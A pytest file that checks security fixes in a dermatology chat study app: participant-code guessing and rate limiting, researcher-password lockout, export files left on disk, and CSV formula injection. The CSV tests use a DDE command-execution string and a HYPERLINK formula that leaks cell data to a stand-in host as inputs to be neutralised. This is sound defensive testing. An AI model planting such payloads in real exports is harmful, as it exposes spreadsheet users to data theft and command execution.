"""Study security (issue 18, items 5-8 and 10): participant codes, exports, CSV formulas, the researcher password.

Why: "ab 12" resumed the session of "AB12"; an export zip was served from Gradio's cache to anyone for an hour
and stayed on disk after a withdrawal; a comment "=HYPERLINK(...)" was exported as a live formula; wrong
passwords cost a second but were never locked out or logged. Each test here failed before its fix.
"""

from __future__ import annotations

import base64
import csv
import io
import logging
import re
import tempfile
import zipfile
from pathlib import Path

import gradio as gr
import pytest
from study_fixtures import load, make_app

from dermchat.study.session import CODE_ALPHABET, FlowError, StudyFlow, generate_code
from dermchat.study.store import AnswerRow, StudyStore

SID = "reference_images_within"
PASSWORD = "correct horse battery staple"


class Clock:
    """A monotonic clock the test moves by hand."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture()
def store(tmp_path: Path) -> StudyStore:
    return StudyStore(tmp_path / "study.sqlite")


# -- item 5: codes ------------------------------------------------------------------------------------------------
def test_generated_codes_have_at_least_ten_random_characters() -> None:
    codes = {generate_code() for _ in range(200)}
    assert len(codes) == 200
    for code in codes:
        raw = code.replace("-", "")
        assert len(raw) >= 10 and set(raw) <= set(CODE_ALPHABET), code


def test_by_default_a_typed_code_only_resumes_a_generated_one(store: StudyStore, ham_dir: Path) -> None:
    flow = StudyFlow(load(), store)
    assert load().allow_entered_codes is False
    with pytest.raises(FlowError, match="only accepts codes it generated"):
        flow.enter_code(flow.consent(flow.start(), True), "AB12")
    assert store.participants() == []
    first = flow.enter_code(flow.consent(flow.start(), True), None)
    again = flow.enter_code(flow.consent(flow.start(), True), first.code.lower())  # type: ignore[union-attr]
    assert again.code == first.code


def test_a_typed_code_never_resumes_someone_elses_session(store: StudyStore, ham_dir: Path) -> None:
    study = load().model_copy(update={"allow_entered_codes": True})
    flow = StudyFlow(study, store)
    owner = flow.enter_code(flow.consent(flow.start(), True), "AB12")
    assert owner.code == "AB12" and owner.resume_key and len(owner.resume_key.replace("-", "")) >= 10
    for typed in ("ab 12", "AB12", "ab12"):
        with pytest.raises(FlowError, match="already in use"):
            flow.enter_code(flow.consent(flow.start(), True), typed)
    back = flow.enter_code(flow.consent(flow.start(), True), owner.resume_key.lower())  # the key shown once
    assert back.code == "AB12" and back.step == owner.step and back.resume_key is None
    assert [p["code"] for p in store.participants()] == ["AB12"]


def test_code_entry_is_rate_limited(store: StudyStore, ham_dir: Path) -> None:
    from dermchat.ratelimit import Backoff

    flow = StudyFlow(load(), store)
    good = flow.enter_code(flow.consent(flow.start(), True), None)
    clock = Clock()
    flow.code_backoff = Backoff(threshold=5, base_s=30, clock=clock)
    for index in range(5):
        with pytest.raises(FlowError, match="only accepts codes"):
            flow.enter_code(flow.consent(flow.start(), True), f"ZZ{index}9-QQQQ-QQQQ")
    with pytest.raises(FlowError, match="Too many"):  # even a valid code waits while the lock runs
        flow.enter_code(flow.consent(flow.start(), True), good.code)
    clock.now += 31
    assert flow.enter_code(flow.consent(flow.start(), True), good.code).code == good.code
    new = flow.enter_code(flow.consent(flow.start(), True), None)  # a new code is never blocked
    assert new.code != good.code


# -- item 7: formulas in CSV cells ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+2", "'+1+2"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("fine", "fine"),
        ("", ""),
        ("-3", "-3"),
        ("-0.5", "-0.5"),
        (-3, -3),
        (4.5, 4.5),
        (None, None),
    ],
)
def test_formula_safe(value: object, expected: object) -> None:
    from dermchat.csv_safety import formula_safe

    assert formula_safe(value) == expected


def test_exported_csv_cells_cannot_start_a_formula(tmp_path: Path, store: StudyStore) -> None:
    from dermchat.study.export import export, export_zip

    store.enrol(SID, "AB12-CD34-EF56", lambda seq: ["a"], user_agent="=cmd|' /C calc'!A0")
    store.save_answers(
        SID,
        "AB12-CD34-EF56",
        0,
        [
            AnswerRow("comments", "text", '=HYPERLINK("http://evil.example/?leak="&A1)', None),
            AnswerRow("trust", "likert", "4", 4.0),
        ],
        case_id=None,
        questionnaire_id="final",
        arm=None,
    )
    store.log(SID, "AB12-CD34-EF56", "note", {"text": '=HYPERLINK("http://evil.example/")'})
    written = export(store.url, tmp_path / "out", SID)
    with zipfile.ZipFile(export_zip(store.url, tmp_path / "x.zip", SID)) as zf:
        in_zip = zf.read("questionnaire_answers.csv").decode()
    for text in (written["questionnaire_answers.csv"].read_text(), in_zip):
        rows = {r["question_id"]: r for r in csv.DictReader(io.StringIO(text))}
        assert rows["comments"]["value"] == '\'=HYPERLINK("http://evil.example/?leak="&A1)'
        assert rows["trust"]["value"] == "4" and rows["trust"]["value_numeric"] == "4.0"
    people = list(csv.DictReader(written["participants.csv"].open()))
    assert people[0]["user_agent"].startswith("'=")
    assert '"=HYPERLINK' in written["events.jsonl"].read_text()  # JSON lines keep the raw text (not a sheet)


# -- item 8: researcher password ------------------------------------------------------------------------------------
def test_wrong_passwords_lock_the_page_with_a_doubling_backoff(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from dermchat.ratelimit import Backoff
    from dermchat_ui import researcher

    clock = Clock()
    monkeypatch.setenv(researcher.PASSWORD_ENV, PASSWORD)
    monkeypatch.setattr(researcher.time, "sleep", lambda s: None)
    monkeypatch.setattr(researcher, "PASSWORD_BACKOFF", Backoff(threshold=5, base_s=60, clock=clock))
    with caplog.at_level(logging.WARNING, logger="dermchat_ui.researcher"):
        for _ in range(5):
            assert not researcher.password_ok("guess")
    assert not researcher.password_ok(PASSWORD)  # locked: even the right password waits
    assert caplog.text.count("failed researcher password attempt") >= 5
    assert "locked" in caplog.text and "127.0.0.1" not in caplog.text
    clock.now += 61
    assert not researcher.password_ok("guess")  # one more failure after the lock: locked twice as long
    clock.now += 61
    assert not researcher.password_ok(PASSWORD)
    clock.now += 60
    assert researcher.password_ok(PASSWORD)
    assert researcher.password_ok(PASSWORD)  # a success resets the count


# -- item 6: exports ---------------------------------------------------------------------------------------------
@pytest.fixture()
def researcher_page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, store: StudyStore, ham_dir: Path):
    from dermchat_ui.researcher import PASSWORD_ENV, build_researcher_tab

    temp_root = tmp_path / "tmp"
    temp_root.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp_root))
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(temp_root / "gradio"))
    monkeypatch.setenv(PASSWORD_ENV, PASSWORD)
    with gr.Blocks():
        page = build_researcher_tab(make_app(tmp_path / "turns"), SID, studies={SID: load()}, database_url=store.url)
    assert page is not None
    return page


def _files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def test_an_export_is_never_a_file_on_the_server(tmp_path: Path, researcher_page, store: StudyStore) -> None:
    store.enrol(SID, "AB12-CD34-EF56", lambda seq: ["a"])
    before = _files_under(tmp_path)
    with pytest.raises(gr.Error):
        researcher_page.on_export(False, SID)  # a locked session gets nothing
    html = researcher_page.on_export(True, SID)
    assert _files_under(tmp_path) == before  # nothing a file route could serve to someone else
    payload = re.search(r"data:application/zip;base64,([A-Za-z0-9+/=]+)", html)
    assert payload is not None and "download=" in html
    with zipfile.ZipFile(io.BytesIO(base64.b64decode(payload.group(1)))) as zf:
        assert "AB12-CD34-EF56" in zf.read("participants.csv").decode()


def test_withdrawal_purges_the_participant_from_exports_left_on_disk(
    tmp_path: Path, researcher_page, store: StudyStore
) -> None:
    from dermchat_ui.uploads import gradio_cache_dir

    store.enrol(SID, "AB12-CD34-EF56", lambda seq: ["a"])
    legacy = tmp_path / "tmp" / "dermchat-export-k2j4"  # what earlier versions left in the temp dir
    legacy.mkdir()
    (legacy / f"{SID}-export-20260101T000000Z.zip").write_bytes(b"PK old export")
    cached = gradio_cache_dir() / ("ab" * 32) / f"{SID}-export-20260101T000000Z.zip"  # and Gradio's served copy
    cached.parent.mkdir(parents=True)
    cached.write_bytes(b"PK old export")
    unrelated = tmp_path / "tmp" / "dermchat-export-notes"
    unrelated.mkdir()
    (unrelated / "notes.txt").write_text("someone else's")
    message = researcher_page.on_delete(True, SID, "AB12-CD34-EF56", True)
    assert "Deleted" in message and "2 export" in message
    assert not legacy.exists() and not cached.exists()
    assert (unrelated / "notes.txt").read_text() == "someone else's"


# -- item 10: study turn folders are not named predictably -----------------------------------------------------
def test_study_turn_folders_cannot_be_guessed_from_the_code(tmp_path: Path, store: StudyStore, ham_dir: Path) -> None:
    from dermchat.study.withdraw import withdraw

    turns = tmp_path / "turns"
    app = make_app(turns)
    flow = StudyFlow(load(), store)
    state = flow.enter_code(flow.consent(flow.start(), True), None)
    list(flow.run_case(state, app))
    root = turns / "dermchat-turns"
    names = [p.name for p in root.iterdir() if p.is_dir()]
    predictable = f"{SID}-{state.code}-0"
    assert len(names) == 1 and names[0] != predictable
    assert re.fullmatch(re.escape(predictable) + r"-[0-9a-f]{16,}", names[0]), names
    assert withdraw(store, state.code, SID, root).folders == 1  # type: ignore[arg-type]
    assert [p for p in root.iterdir() if p.is_dir()] == []
